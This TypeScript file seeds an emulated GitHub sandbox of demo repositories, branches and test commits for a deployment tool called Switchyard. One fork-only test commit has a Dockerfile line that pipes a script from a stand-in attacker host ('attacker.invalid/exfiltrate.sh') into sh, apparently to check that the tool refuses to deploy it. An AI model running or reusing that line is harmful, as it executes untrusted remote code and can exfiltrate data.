// The sandbox's GitHub: one organisation with a deployable app, an app that cannot be built
// (no Dockerfile), and a private app only the second sandbox token can see. Every commit id is
// content-addressed, so the same seed gives the same SHAs on every start.
import { readFileSync } from 'node:fs';
import type { EmulatedRepository } from './repository.js';
import type { GitHubEmulatorState } from './state.js';
import { FAIL_BUILD_REF, RETAG_AFTER_PUSH_MARKER, SLOW_BUILD_MARKER } from './test-values.js';

export const SANDBOX_OWNER = 'switchyard-demo';
export const SANDBOX_REPOS = {
  deployable: 'panda-api',
  noDockerfile: 'no-dockerfile-app',
  private: 'secret-app',
  noWorkflow: 'no-workflow-app',
  disabledWorkflow: 'disabled-workflow-app',
} as const;
export const BUILD_WORKFLOW_FILE = 'switchyard-build.yml';
export const BUILD_WORKFLOW_PATH = `.github/workflows/${BUILD_WORKFLOW_FILE}`;

/** The template users copy into their repository; the sandbox repositories carry it verbatim. */
export const buildWorkflowTemplate = (): string =>
  readFileSync(new URL('../../templates/github-actions/switchyard-build.yml', import.meta.url), 'utf8');

export interface SeedOptions {
  /** Who can see `secret-app`; default: the emulator's second accepted token (nobody if there is none). */
  privateRepoTokens?: string[];
}

export interface SandboxRepositories {
  pandaApi: EmulatedRepository;
  noDockerfileApp: EmulatedRepository;
  secretApp: EmulatedRepository;
  noWorkflowApp: EmulatedRepository;
  disabledWorkflowApp: EmulatedRepository;
}

export function seedSandboxRepos(state: GitHubEmulatorState, options: SeedOptions = {}): SandboxRepositories {
  const workflow = buildWorkflowTemplate();
  return {
    pandaApi: seedPandaApi(state, workflow),
    noDockerfileApp: seedNoDockerfileApp(state, workflow),
    secretApp: seedSecretApp(state, workflow, options.privateRepoTokens ?? state.tokens.slice(1, 2)),
    noWorkflowApp: seedBuildableApp(
      state,
      SANDBOX_REPOS.noWorkflow,
      'Dockerfile but no Switchyard build workflow (Switchyard sandbox)',
      undefined,
    ),
    disabledWorkflowApp: seedBuildableApp(
      state,
      SANDBOX_REPOS.disabledWorkflow,
      'Its Switchyard build workflow is disabled (Switchyard sandbox)',
      workflow,
    ),
  };
}

const nodeDockerfile = (extra = '') => `FROM node:20-alpine
WORKDIR /app
COPY package.json server.js ./
${extra}EXPOSE 8080
HEALTHCHECK CMD wget -qO- http://127.0.0.1:8080/health || exit 1
CMD ["node", "server.js"]
`;

const packageJson = (name: string, version: string) => `${JSON.stringify({ name, version, private: true, main: 'server.js' }, null, 2)}\n`;

const serverJs = (version: string, healthStatus = 200) => `// Minimal HTTP service: /health for load balancer checks, / for traffic.
import { createServer } from 'node:http';
createServer((req, res) => {
  if (req.url === '/health') { res.writeHead(${healthStatus}); res.end(${healthStatus === 200 ? "'ok'" : "'unhealthy'"}); return; }
  res.writeHead(200, { 'content-type': 'application/json' });
  res.end(JSON.stringify({ service: 'panda-api', version: '${version}' }));
}).listen(8080);
`;

function seedPandaApi(state: GitHubEmulatorState, workflow: string): EmulatedRepository {
  const repo = state.addRepository({
    owner: SANDBOX_OWNER,
    name: SANDBOX_REPOS.deployable,
    description: 'Panda backend API (Switchyard sandbox)',
  });
  const readme =
    '# panda-api\n\nSandbox application for Switchyard deployments.\n\nTest branches: `fail-build` (the image build fails), `unhealthy-green` (green fails its health checks), `slow-build` (the build takes long).\n';
  const base = {
    'README.md': readme,
    Dockerfile: nodeDockerfile(),
    'package.json': packageJson('panda-api', '1.0.0'),
    'server.js': serverJs('1.0.0'),
  };

  const initial = repo.addCommit({ message: 'Initial commit', files: base, date: '2024-01-10T09:00:00Z' });
  const v100 = repo.addCommit({
    message: 'Add Switchyard build workflow',
    parents: [initial],
    date: '2024-01-12T10:30:00Z',
    files: { ...base, [BUILD_WORKFLOW_PATH]: workflow },
  });
  const v123Files = {
    ...base,
    [BUILD_WORKFLOW_PATH]: workflow,
    'package.json': packageJson('panda-api', '1.2.3'),
    'server.js': serverJs('1.2.3'),
  };
  const v123 = repo.addCommit({
    message: 'Release 1.2.3: faster event lookups',
    parents: [v100],
    date: '2024-03-02T14:00:00Z',
    files: v123Files,
  });
  const mainFiles = { ...v123Files, 'package.json': packageJson('panda-api', '1.3.0'), 'server.js': serverJs('1.3.0') };
  const main = repo.addCommit({
    message: 'Merge pull request #12 from switchyard-demo/develop',
    parents: [v123],
    date: '2024-04-15T08:45:00Z',
    files: mainFiles,
  });
  const develop = repo.addCommit({
    message: 'Add request logging',
    parents: [main],
    date: '2024-04-18T16:20:00Z',
    files: { ...mainFiles, 'server.js': `${serverJs('1.4.0-dev')}// request logging comes next\n` },
  });
  const failBuild = repo.addCommit({
    message: 'Test value: the image build of this branch fails',
    parents: [main],
    date: '2024-04-20T11:00:00Z',
    files: { ...mainFiles, Dockerfile: nodeDockerfile(`RUN echo "${FAIL_BUILD_REF}: this build fails on purpose" && exit 1\n`) },
  });
  const unhealthy = repo.addCommit({
    message: 'Test value: green answers /health with 500',
    parents: [main],
    date: '2024-04-21T11:00:00Z',
    files: { ...mainFiles, 'server.js': serverJs('1.3.0-unhealthy', 500) },
  });

  repo.setBranch('main', main, { protected: true });
  repo.setBranch('develop', develop);
  repo.setBranch(FAIL_BUILD_REF, failBuild);
  repo.setBranch('unhealthy-green', unhealthy);
  // Same code as main; its image tag carries SLOW_BUILD_MARKER, so its build takes SLOW_BUILD_STEPS.
  repo.setBranch(SLOW_BUILD_MARKER, main);
  // Same code as main; its image tag carries RETAG_AFTER_PUSH_MARKER, so the tag is re-pushed after the build.
  repo.setBranch(RETAG_AFTER_PUSH_MARKER, main);
  repo.setTag('v1.0.0', v100);
  repo.setTag('v1.2.3', v123);
  // Test value: a commit pushed to a fork (from v1.2.3, so it diverges from main). GitHub answers
  // for it through this repository; Switchyard must refuse to deploy it.
  repo.addForkNetworkCommit({
    message: 'Test value: pushed to a fork only, on no branch or tag of this repository',
    parents: [v123],
    date: '2024-04-22T11:00:00Z',
    author: { name: 'Fork Owner', email: 'fork@attacker.invalid' },
    files: { ...v123Files, Dockerfile: nodeDockerfile('RUN wget -qO- https://attacker.invalid/exfiltrate.sh | sh\n') },
  });
  return repo;
}

function seedNoDockerfileApp(state: GitHubEmulatorState, workflow: string): EmulatedRepository {
  const repo = state.addRepository({
    owner: SANDBOX_OWNER,
    name: SANDBOX_REPOS.noDockerfile,
    description: 'Static site without a Dockerfile (Switchyard sandbox)',
  });
  const main = repo.addCommit({
    message: 'Static site, no container build yet',
    date: '2024-02-01T09:00:00Z',
    files: {
      'README.md':
        '# no-dockerfile-app\n\nHas the Switchyard build workflow but no Dockerfile: deployments fail with DOCKER_BUILD_FAILED.\n',
      'index.html': '<!doctype html><title>no-dockerfile-app</title><h1>Hello</h1>\n',
      [BUILD_WORKFLOW_PATH]: workflow,
    },
  });
  repo.setBranch('main', main);
  return repo;
}

/** A buildable app on `main`; with a workflow file, that workflow is disabled (disabled_manually). */
function seedBuildableApp(state: GitHubEmulatorState, name: string, description: string, workflow: string | undefined): EmulatedRepository {
  const repo = state.addRepository({ owner: SANDBOX_OWNER, name, description });
  const main = repo.addCommit({
    message: 'Initial commit',
    date: '2024-02-15T09:00:00Z',
    files: {
      'README.md': `# ${name}\n\n${description}\n`,
      Dockerfile: nodeDockerfile(),
      'package.json': packageJson(name, '0.1.0'),
      'server.js': serverJs('0.1.0').replace('panda-api', name),
      ...(workflow === undefined ? {} : { [BUILD_WORKFLOW_PATH]: workflow }),
    },
  });
  repo.setBranch('main', main);
  if (workflow !== undefined) state.setWorkflowDisabled(repo, BUILD_WORKFLOW_FILE, true);
  return repo;
}

function seedSecretApp(state: GitHubEmulatorState, workflow: string, collaboratorTokens: string[]): EmulatedRepository {
  const repo = state.addRepository({
    owner: SANDBOX_OWNER,
    name: SANDBOX_REPOS.private,
    private: true,
    collaboratorTokens,
    description: 'Private application (Switchyard sandbox)',
  });
  const main = repo.addCommit({
    message: 'Initial commit',
    date: '2024-02-10T09:00:00Z',
    files: {
      'README.md': '# secret-app\n\nPrivate: visible only to tokens with access.\n',
      Dockerfile: nodeDockerfile(),
      'package.json': packageJson('secret-app', '0.1.0'),
      'server.js': serverJs('0.1.0').replace('panda-api', 'secret-app'),
      [BUILD_WORKFLOW_PATH]: workflow,
    },
  });
  repo.setBranch('main', main, { protected: true });
  return repo;
}
